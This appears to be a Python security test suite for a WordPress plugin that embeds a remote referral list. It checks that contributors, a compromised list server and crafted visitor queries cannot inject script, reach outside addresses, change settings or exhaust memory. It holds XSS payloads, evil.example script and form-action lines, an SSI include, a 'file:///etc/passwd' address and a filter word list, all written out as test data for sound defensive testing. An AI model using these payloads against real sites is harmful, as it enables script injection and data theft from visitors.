"""What a contributor of a WordPress site may try, and what another organization may
answer that means harm; carried out by tests/sites/test-wordpress.py."""

from php_page import Stranger, bomb, within
from visitor import get
from wordpress import PASSWORD
from wordpress_views import BLOCK, HERE, HOTLINE, SECRET, path_of, piece, shown


def contributor(site):
    admin = site.person()
    answer = admin.rest("/wp/v2/users", {
        "username": "contributor", "email": "c@example.org", "password": PASSWORD,
        "roles": ["contributor"]})
    assert answer.status in (201, 500), answer.text  # 500: it exists
    return admin, site.person("contributor")


def an_author_reaches_no_other_address_and_puts_no_script_on_a_page(site):
    admin, author = contributor(site)
    with Stranger() as stranger:
        evil = stranger.address("list")
        script = '\\"><script>alert(1)</script>'
        for attributes in (
                f'"address":"{evil}"', f'"src":"{evil}"', f'"signpost_address":"{evil}"',
                f'"list":"{evil}"', '"list":"crisis=off"', '"list":"q=' + SECRET + '"',
                '"list":"style=x&crisis=off"', '"list":["audience=workers"]', '"list":7',
                f'"language":"{script}"', f'"heading":"{script}"', '"heading":"2&crisis=off"',
                f'"exit":"{script}"', f'"shown":"{script}"', '"language":"en&q=' + SECRET + '"',
                f'"shown":"frame","list":"{script}"', f'"shown":"element","heading":"{script}"'):
            assert_harmless(site, admin, author, BLOCK.format("{" + attributes + "}"))
        for attributes in (f'address="{evil}"', f"src='{evil}'", f'list="{evil}"',
                           'list="crisis=off"', 'heading="2&crisis=off"',
                           f'language="en&q={SECRET}"', "list='\"><script>alert(1)</script>'",
                           f'{evil}', 'shown="frame" heading="\'onload=alert(1)"'):
            assert_harmless(site, admin, author, f"[signpost {attributes}]")
        assert not stranger.asked, stranger.asked


def assert_harmless(site, admin, author, content):
    """What a contributor wrote, once somebody has let it in without a look."""
    post = author.write(content, kind="posts", status="pending", title="An article")
    assert admin.rest(f"/wp/v2/posts/{post['id']}", {"status": "publish"}).status == 200
    text = shown(site, admin.rest(f"/wp/v2/posts/{post['id']}").json["link"])
    assert "alert(1)" not in text and SECRET not in text, content
    if "<iframe" not in text:
        assert HOTLINE in text, content
    admin.rest(f"/wp/v2/posts/{post['id']}?force=true", method="DELETE")


def only_an_administrator_reaches_the_settings(site):
    _, author = contributor(site)
    before = site.option("signpost_address")
    assert author.ask("/wp-admin/options-general.php?page=signpost").status == 403
    form = {"option_page": "signpost", "action": "update", "_wpnonce": author.nonce,
            "signpost_address": "http://127.0.0.1:9/", "signpost_instead": "x"}
    assert author.ask("/wp-admin/options.php", form).status == 403
    assert author.rest("/wp/v2/settings", {"signpost_address": "x"}).status == 403
    # Nor does an administrator by a form of somebody else's.
    assert site.person().ask("/wp-admin/options.php", form).status == 403
    assert site.option("signpost_address") == before


def an_address_is_one_of_the_web(site):
    admin = site.person()
    before = site.option("signpost_address").strip()
    for wrong in ("ftp://example.org/", "javascript:alert(1)", "file:///etc/passwd",
                  "http://me:secret@127.0.0.1/", "nothing at all"):
        said = admin.set_address(wrong)
        assert "This is not an address of the web." in said.text, wrong
        assert site.option("signpost_address").strip() == before, wrong
    host = site.signpost.removesuffix("/referrals")
    admin.set_address("help.example.org/list/")
    assert site.option("signpost_address").strip() == "https://help.example.org/list"
    for typed in (host, host + "/", site.signpost + "/", site.signpost + "/?audience=workers#x"):
        admin.set_address(typed)
        assert site.option("signpost_address").strip() == site.signpost, typed
    with Stranger() as stranger:
        assert "No list was found there just now." in admin.set_address(
            stranger.address("login")).text
    admin.set_address(site.signpost)


HOSTILE = """<section class="signpost" lang="en" onclick="alert(1)"><script>alert(1)</script>
<script src="https://evil.example/x.js"></script><style>body{display:none}</style>
<link rel="stylesheet" href="https://evil.example/x.css"><iframe src="https://evil.example/"></iframe>
<a href="javascript:alert(1)" onmouseover="alert(1)">link</a><img src=x onerror=alert(1)>
<p style="position:fixed">[signpost filters="here"] [caption]words[/caption]</p>
<!--# include virtual="/referrals/metrics" --><!-- wp:html --><svg onload=alert(1)></svg>
<a href="data:text/html,x">data</a><input type="password" name="p"><object data="x"></object>
%s</section>"""


def a_signpost_that_was_broken_into_puts_no_script_on_the_page(site):
    with Stranger(hostile=(HOSTILE % "").encode()) as stranger:
        site.person().set_address(stranger.address("hostile"))
        text = shown(site, site.link)
    ours = piece(text)
    for word in ("<script", "<style", "<link", "<iframe", "<img", "<object", "<svg", "<!--",
                 "javascript:", "data:", "onclick", "onerror", "onmouseover", "style=",
                 "password", "evil.example"):
        assert word not in ours, (word, ours)
    assert '&#91;signpost filters="here"]' in ours and "&#91;caption]" in ours, ours
    assert_in_no_page(site)
    for lists in ('{"facets":7}', '{"facets":[7,{"terms":[7,{"id":[],"name":{}}]}]}', '"x"',
                  '{"facets":[{"id":"q","name":"<b>x","terms":[{"id":"<","name":"y"}]}]}'):
        with Stranger(hostile=lists.encode()) as stranger:
            site.person().set_address(stranger.address("hostile"))
    site.person().set_address(site.signpost)


def assert_in_no_page(site):
    """What sends words elsewhere, or what a web server would carry out, however it
    is written."""
    for wrong in ('<form action="https://evil.example/"></form>',
                  "<form action='https://evil.example/'></form>",
                  '<form ACTION="https://evil.example/"></form>',
                  'x action="# <form action="https://evil.example/"></form>',
                  '<form class=\' action="#\' action="https://evil.example/"></form>',
                  '<!<!-- -->--# include virtual="/evil.example" -->'):
        with Stranger(hostile=(HOSTILE % wrong).encode()) as stranger:
            site.person().set_address(stranger.address("hostile"))
            text = shown(site, site.link)
            assert "evil.example" not in text and "<!--#" not in text, wrong


def a_visitor_takes_the_list_from_nobody_and_leaves_no_word(site):
    """Such as a wish that is longer than nginx takes, or one that fails."""
    path = path_of(site.person().write(HERE)["link"])
    site.forget_lists()
    for query in ("sp-q=" + "!" * 4000, "lang=" + SECRET, "p=" + SECRET,
                  "sp-q=" + SECRET):
        assert "signpost-count" in get(site.wordpress, f"{path}?{query}").text, query[:20]
    site.kill_program()
    try:
        get(site.wordpress, f"{path}?sp-q=x")
    finally:
        site.revive_program()
    assert not site.option("_transient_signpost_pause")
    assert SECRET not in site.dump()
    site.forget_lists()


def a_page_waits_two_seconds_in_all_however_the_answer_comes(site):
    """Without PHP's curl WordPress would go on while anything comes."""
    for mood in ("slow", "endless"):
        with Stranger() as stranger:
            site.set_option("signpost_address", stranger.address(mood))
            site.forget_lists()
            with within(8):
                assert '<section class="signpost' not in shown(site, site.link), mood
            assert len(stranger.asked) == 1, stranger.asked
    site.set_option("signpost_address", site.signpost)
    site.forget_lists()
    assert "signpost-count" in shown(site, site.link)


def no_answer_takes_more_memory_or_time_than_a_page_has(site):
    long_tag = HOSTILE % ("<p " + "x " * 400000 + ">")
    assert len(bomb()) < 1024 * 1024
    for mood in ("packed", "hostile"):
        with Stranger(hostile=long_tag.encode()) as stranger:
            site.set_option("signpost_address", stranger.address(mood))
            site.forget_lists()
            with within(8):
                assert '<section class="signpost' not in shown(site, site.link), mood
    site.set_option("signpost_address", site.signpost)
    site.forget_lists()


def a_contributor_fills_no_place_for_languages(site):
    _, author = contributor(site)
    before = site.option("signpost_kept")
    answer = author.rest("/wp/v2/block-renderer/signpost/section?context=edit"
                         "&attributes[language]=xx")
    assert HOTLINE in answer.text and site.option("signpost_kept") == before


ATTACKS = (
    a_visitor_takes_the_list_from_nobody_and_leaves_no_word,
    a_page_waits_two_seconds_in_all_however_the_answer_comes,
    no_answer_takes_more_memory_or_time_than_a_page_has,
    a_contributor_fills_no_place_for_languages,
    an_author_reaches_no_other_address_and_puts_no_script_on_a_page,
    only_an_administrator_reaches_the_settings,
    an_address_is_one_of_the_web,
    a_signpost_that_was_broken_into_puts_no_script_on_the_page,
)
